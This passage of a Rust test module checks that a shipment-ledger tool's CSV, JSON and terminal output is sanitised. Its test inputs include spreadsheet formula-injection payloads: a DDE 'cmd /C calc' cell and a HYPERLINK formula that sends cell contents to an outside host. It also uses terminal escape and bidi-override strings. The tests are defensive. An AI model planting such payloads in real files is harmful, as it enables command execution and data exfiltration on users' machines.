                "'＝HYPERLINK(\"http://x/?\"&A1)",
            ),
            ("＋cmd|' /C calc'!A0", "'＋cmd|' /C calc'!A0"),
            ("－2＋3", "'－2＋3"),
            ("＠SUM(1)", "'＠SUM(1)"),
            ("大阪＝府", "大阪＝府"),
            ("ISOU-20261126-ABCDEFGH", "ISOU-20261126-ABCDEFGH"),
            ("大阪府がん登録室", "大阪府がん登録室"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(not_a_formula(cell), want, "{cell:?}");
        }
        let mut row = BTreeMap::new();
        row.insert("移送元", "=1+1".to_string());
        row.insert("移送ID", "ISOU-1".to_string());
        row.insert("移送先", "＝1＋1".to_string());
        let mut out = Vec::new();
        write_csv(&mut out, &["移送ID", "移送元", "移送先"], &[row]).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "\u{feff}移送ID,移送元,移送先\r\nISOU-1,'=1+1,'＝1＋1\r\n"
        );
    }

    #[test]
    fn record_show_wraps_every_fact_in_full() {
        let long = format!("{} {}", "a".repeat(150), "b,".repeat(60));
        let e = Event {
            id: 7,
            recorded_at: "2026-12-03T00:00:00Z".into(),
            kind: EventKind::Verified,
            unknown_kind: None,
            shipment: "ISOU-1".into(),
            body: serde_json::json!({"note": long, "gone": null, "n": 3}),
            prev_hash: String::new(),
            hash: String::new(),
        };
        let lines = show_lines(std::slice::from_ref(&e));
        // The stored UTC instant, shown in the registry's zone (JST by default).
        assert_eq!(
            lines[0],
            "ID  日時                  種別 kind      移送ID  担当 by  結果 result"
        );
        assert_eq!(
            lines[1],
            " 7  2026-12-03 09:00 JST  検証 verified  ISOU-1           異常"
        );
        assert!(lines.contains(&"event 7  2026-12-03 09:00 JST  検証 verified".to_string()));
        assert!(lines.iter().all(|l| l.chars().count() <= SHOW_WIDTH + 12));
        let joined: String = lines
            .iter()
            .map(|l| l.trim_start())
            .collect::<Vec<_>>()
            .concat();
        assert!(joined.contains(&format!("note  {long}")), "{lines:#?}");
        assert!(
            lines.contains(&"    gone  (none)".to_string()),
            "{lines:#?}"
        );
        assert!(lines.contains(&"    n     3".to_string()));
    }

    #[test]
    fn list_columns_line_up_by_terminal_width() {
        let ev = |id, by: &str, body: Value| Event {
            id,
            recorded_at: "2026-12-03T00:00:00Z".into(),
            kind: EventKind::Disposed,
            unknown_kind: None,
            shipment: "ISOU-1".into(),
            body: serde_json::json!({"by": by, "method": body}),
            prev_hash: String::new(),
            hash: String::new(),
        };
        let lines = list_lines(&[
            ev(9, "山田 太郎", "物理破壊".into()),
            ev(10, "bob", "x".repeat(80).into()),
        ]);
        let col = |l: &str, what: &str| display_width(&l[..l.find(what).unwrap()]);
        assert_eq!(
            col(&lines[1], "物理破壊"),
            col(&lines[2], "xxx"),
            "{lines:#?}"
        );
        assert_eq!(col(&lines[0], "結果"), col(&lines[2], "xxx"), "{lines:#?}");
        assert!(lines[2].ends_with('…') && display_width(&lines[2]) < 120);
    }

    #[test]
    fn cells_and_json_from_the_ledger_are_cleaned() {
        let evil = "\u{1b}]0;t\u{7}\u{202e}=1";
        let mut row = BTreeMap::new();
        row.insert("移送ID", "ISOU-1".to_string());
        row.insert("移送元", evil.to_string());
        row.insert("移送先", format!("={evil}"));
        let mut out = Vec::new();
        write_csv(&mut out, &["移送ID", "移送元", "移送先"], &[row.clone()]).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "\u{feff}移送ID,移送元,移送先\r\nISOU-1,\u{fffd}]0;t\u{fffd}\u{fffd}=1,'=\u{fffd}]0;t\u{fffd}\u{fffd}=1\r\n"
        );
        let mut out = Vec::new();
        write_json(&mut out, &[row]).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            !text.contains(['\u{202e}']) && !text.contains("\\u001b"),
            "{text}"
        );
        assert!(text.contains("\u{fffd}]0;t"), "{text}");
    }
}
